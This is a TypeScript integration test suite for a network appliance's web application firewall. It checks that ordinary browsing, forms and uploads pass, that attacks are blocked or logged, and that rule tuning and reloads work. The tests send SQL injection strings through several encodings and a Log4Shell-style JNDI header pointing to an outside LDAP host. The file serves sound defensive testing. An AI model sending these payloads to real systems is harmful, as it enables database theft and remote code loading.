/**
 * Web protection between two machines: curl on one side, a server that writes down every request the moment its head is there on
 * the other, and nothing but the appliance between them. Needs root, /dev/net/tun and curl; says why when it cannot run.
 */
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import test, { type ExecutionContext } from 'ava';
import { LabNetwork, type LabVm, type Outcome } from '../../src/appliance/lab/namespaces.js';
import { liveRefusal } from '../../src/appliance/lab/live.js';
import { Drawbridge, folder, parseMetrics, total, type Sample } from '../helpers/drawbridge.js';

const why = liveRefusal();
const live = why === undefined ? test.serial : test.serial.skip;
if (why !== undefined) console.log(`live tests of web protection skipped: ${why}`);

const tag = (process.pid % 46_000).toString(36);
const SERVER = '10.77.0.10';
const vms: LabVm[] = [['server', 10], ['client', 20]].map(([name, last]) => {
  const id = `dbw-${String(name)[0]}-${tag}`;
  return { name: String(name), namespace: id, tap: id, mac: `02:00:0a:4d:00:${String(last)}`, ip: `10.77.0.${last}` };
});

/** Writes "HEAD METHOD URL" when a request arrives and "BODY bytes" when all of it has; leaks an SQL error on /leak. */
const HTTP_SERVER = `
const fs = require('node:fs');
const log = (line) => fs.appendFileSync(process.argv[1], line + '\\n');
require('node:http').createServer((q, r) => {
  log('HEAD ' + q.method + ' ' + q.url);
  let n = 0;
  q.on('data', (d) => (n += d.length));
  q.on('end', () => {
    log('BODY ' + n);
    r.setHeader('content-type', 'text/html');
    r.end(q.url === '/leak' ? "You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version" : '<h1>welcome</h1>');
  });
}).listen(80, () => log('UP'));`;

/** Sends the arguments after the host as pieces, 60 ms apart; prints what comes back. */
const PIECES = `
const [host, ...pieces] = process.argv.slice(1);
const s = require('node:net').connect(80, host, async () => {
  s.setNoDelay(true);
  for (const p of pieces) { s.write(JSON.parse('"' + p + '"')); await new Promise((r) => setTimeout(r, 60)); }
});
s.on('data', (d) => process.stdout.write(d)).on('error', (e) => { process.stdout.write(e.code); process.exit(0); }).on('close', () => process.exit(0));
setTimeout(() => process.exit(0), 1500);`;

interface WebEvent {
  readonly event_type: string;
  readonly src_vm?: string;
  readonly dest_vm?: string;
  readonly web?: { readonly action: string; readonly transaction_id: string; readonly answer?: string; readonly phase?: number };
  readonly rules?: readonly { readonly id: number }[];
}

interface Rig {
  readonly dir: string;
  readonly run: Drawbridge;
  curl(...args: string[]): Promise<Outcome>;
  pieces(...pieces: string[]): Promise<Outcome>;
  /** What the server wrote since the last call. */
  served(): Promise<string>;
  events(): WebEvent[];
  /** The events behind the first `before`, once there are some: they are written after the packets went. */
  told(before?: number): Promise<WebEvent[]>;
  metrics(): Promise<Sample[]>;
}

async function build(t: ExecutionContext, web: string, files: Readonly<Record<string, string>> = {}): Promise<Rig> {
  const ports = vms.map((v) => `  - { name: ${v.name}0, type: tap, device: ${v.tap}, up: false, vm: ${v.name}, mac: "${v.mac}", ips: [${v.ip}] }`);
  const dir = folder(t, {
    ...files,
    'drawbridge.yaml': `vms: { server: {}, client: {} }\nports:\n${ports.join('\n')}\nips: { enabled: false }\nweb: ${web}\nmetrics: { listen: "127.0.0.1:0" }\n`,
    'upload.txt': 'A line of ordinary text about nothing in particular.\n'.repeat(40_000),
  });
  const log = join(dir, 'server.log');
  writeFileSync(log, '');
  const network = new LabNetwork(vms);
  const run = new Drawbridge(['run', '-c', join(dir, 'drawbridge.yaml')]);
  t.teardown(async () => {
    network.destroy();
    await run.stop();
  });
  network.create();
  await run.ready();
  network.attach();
  network.start(network.vm('server'), process.execPath, ['-e', HTTP_SERVER, log]);
  for (let i = 0; i < 100 && !readFileSync(log, 'utf8').includes('UP'); i++) await sleep(50);
  let read = readFileSync(log, 'utf8').length;
  const events = (): WebEvent[] => (existsSync(join(dir, 'eve.json')) ? readFileSync(join(dir, 'eve.json'), 'utf8').split('\n').filter(Boolean).map((line) => JSON.parse(line) as WebEvent).filter((e) => e.event_type === 'web') : []);
  return {
    dir,
    run,
    curl: (...args) => network.exec(network.vm('client'), 'curl', ['-sS', '-m', '5', '-H', 'Host: shop.example', ...args], 20_000),
    pieces: (...pieces) => network.exec(network.vm('client'), process.execPath, ['-e', PIECES, SERVER, ...pieces.map((p) => JSON.stringify(p).slice(1, -1))], 10_000),
    served: async () => {
      // What was let through has arrived by now; what was not never does.
      await sleep(100);
      const all = readFileSync(log, 'utf8');
      const fresh = all.slice(read);
      read = all.length;
      return fresh;
    },
    metrics: async () => parseMetrics(await (await fetch(run.metricsUrl)).text()),
    events,
    told: async (before = 0) => {
      for (let i = 0; i < 100 && events().length <= before; i++) await sleep(50);
      return events().slice(before);
    },
  };
}

const SQL = "x' UNION SELECT password FROM users-- -";
const URL = `http://${SERVER}`;

live('ordinary use passes; attacks end before the server knows of them, and the client reads why', async (t) => {
  t.timeout(120_000);
  const rig = await build(t, '{ engine: on, block: page }');

  const visit = await rig.curl(`${URL}/shop?item=17`);
  t.is(visit.stdout, '<h1>welcome</h1>', visit.stderr);
  t.is(await rig.served(), 'HEAD GET /shop?item=17\nBODY 0\n');
  const form = await rig.curl('--data', 'name=Ann Smith&comment=I like it', `${URL}/form`);
  t.is(form.stdout, '<h1>welcome</h1>', form.stderr);
  const upload = await rig.curl('-H', 'Expect:', '-F', `note=from Ann`, '-F', `file=@${join(rig.dir, 'upload.txt')}`, `${URL}/upload`);
  t.is(upload.stdout, '<h1>welcome</h1>', upload.stderr);
  t.regex(await rig.served(), /HEAD POST \/form\nBODY \d+\nHEAD POST \/upload\nBODY 2120\d+\n/);
  t.deepEqual(rig.events(), [], 'nothing to report so far');

  const raw = await rig.curl('-i', '-H', 'Expect:', '-H', 'Content-Type: text/plain', '-T', join(rig.dir, 'upload.txt'), '-X', 'POST', `${URL}/raw`);
  t.regex(raw.stdout, /HTTP\/1\.1 413 /, 'longer than rules can look at, and no file of a form');
  t.false((await rig.served()).includes('BODY'), 'the server never had all of it');

  const attacks: Record<string, string[]> = {
    query: ['-G', '--data-urlencode', `id=${SQL}`, `${URL}/item`],
    'urlencoded body': ['--data-urlencode', `id=${SQL}`, `${URL}/item`],
    JSON: ['-H', 'Content-Type: application/json', '--data', JSON.stringify({ a: { id: SQL } }), `${URL}/item`],
    multipart: ['-F', `id=${SQL}`, `${URL}/item`],
    'chunked body': ['-H', 'Transfer-Encoding: chunked', '--data-urlencode', `id=${SQL}`, `${URL}/item`],
    header: ['-H', 'User-Agent: ${jndi:ldap://203.0.113.9/a}', `${URL}/item`],
  };
  for (const [what, args] of Object.entries(attacks)) {
    const before = rig.events().length;
    const attack = await rig.curl('-i', ...args);
    t.is(attack.code, 0, `${what}: ${attack.stderr}`);
    t.regex(attack.stdout, /^HTTP\/1\.1 403 Forbidden/, what);
    t.is(await rig.served(), '', `${what}: the server saw nothing of it`);
    const events = await rig.told(before);
    t.is(events.length, 1, what);
    t.like(events[0], { src_vm: 'client', dest_vm: 'server', web: { action: 'blocked', answer: 'page' } });
    t.true(attack.stdout.includes(events[0]!.web!.transaction_id), `${what}: the page shows the id of the event`);
  }

  const leak = await rig.curl('-i', `${URL}/leak`);
  t.regex(leak.stdout, /^HTTP\/1\.1 403 Forbidden/);
  t.false(leak.stdout.includes('MySQL'));
  t.is(await rig.served(), 'HEAD GET /leak\nBODY 0\n');

  const again = await rig.curl(`${URL}/`);
  t.is(again.stdout, '<h1>welcome</h1>');
  // Counters are published once a second.
  let samples = await rig.metrics();
  for (let i = 0; i < 30 && total(samples, 'drawbridge_web_blocked_total') < 8; i++) {
    await sleep(100);
    samples = await rig.metrics();
  }
  t.is(total(samples, 'drawbridge_web_blocked_total'), 8);
  t.is(total(samples, 'drawbridge_web_open_transactions'), 0);
  t.is(total(samples, 'drawbridge_web_body_bytes'), 0);
});

live('a head that comes alone is held until its body has been judged', async (t) => {
  t.timeout(60_000);
  const rig = await build(t, '{ engine: on }');
  const head = (length: number): string => `POST /form HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: ${length}\r\nConnection: close\r\n\r\n`;
  const bad = `id=${encodeURIComponent(SQL)}`;
  const attack = await rig.pieces(head(bad.length), bad.slice(0, 9), bad.slice(9));
  t.is(attack.stdout, 'ECONNRESET');
  t.is(await rig.served(), '', 'not even the head');
  const good = await rig.pieces(head(11), 'name=A', 'nn+S.');
  t.true(good.stdout.endsWith('<h1>welcome</h1>'), good.stdout + good.stderr);
  t.is(await rig.served(), 'HEAD POST /form\nBODY 11\n');
});

live('detection lets everything pass and says what it would have blocked', async (t) => {
  t.timeout(60_000);
  const rig = await build(t, '{ engine: detect, paranoia: 2 }');
  const attack = await rig.curl('-G', '--data-urlencode', `id=${SQL}`, `${URL}/item`);
  t.is(attack.stdout, '<h1>welcome</h1>');
  t.true((await rig.served()).startsWith('HEAD GET /item?id='));
  t.is((await rig.told())[0]?.web?.action, 'would_block');
  t.true(rig.events()[0]!.rules!.some((r) => r.id === 942100));
});

live('a reload takes up an exclusion and other settings without losing a connection', async (t) => {
  t.timeout(120_000);
  const rig = await build(t, '{ engine: on, rules_before: [mine.conf] }', { 'mine.conf': '# nothing yet\n' });
  const attack = (): Promise<Outcome> => rig.curl('-G', '--data-urlencode', `id=${SQL}`, `${URL}/item`);
  t.is((await attack()).code, 56, 'reset');
  const id = (await rig.told())[0]!.web!.transaction_id;
  const tuned = await new Drawbridge(['web', 'tune', join(rig.dir, 'eve.json'), id, '-c', join(rig.dir, 'drawbridge.yaml'), '-o', 'mine.conf', '--days', '1']).ended;
  t.is(tuned.code, 0, tuned.stderr);
  t.regex(tuned.stdout, /cross-site-scripting +10\/10 -> 10\/10 +20\/20 -> 20\/20/);
  const slow = rig.pieces('GET /slow HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: Mozilla/5.0\r\n', 'Accept: */*\r\nConnection: close\r\n', ...Array.from({ length: 15 }, (_, i) => `X-${i}: y\r\n`), '\r\n');
  rig.run.child.kill('SIGHUP');
  for (let i = 0; i < 600 && !/in force|generation 2/.test(rig.run.stderr); i++) await sleep(100);
  t.regex(rig.run.stderr, /generation 2/);
  t.is((await attack()).stdout, '<h1>welcome</h1>', rig.run.stderr);
  t.is((await rig.curl('-G', '--data-urlencode', `other=${SQL}`, `${URL}/item`)).code, 56, 'other parameters are judged as before');
  t.true((await slow).stdout.endsWith('<h1>welcome</h1>'), 'a request that was under way');
});
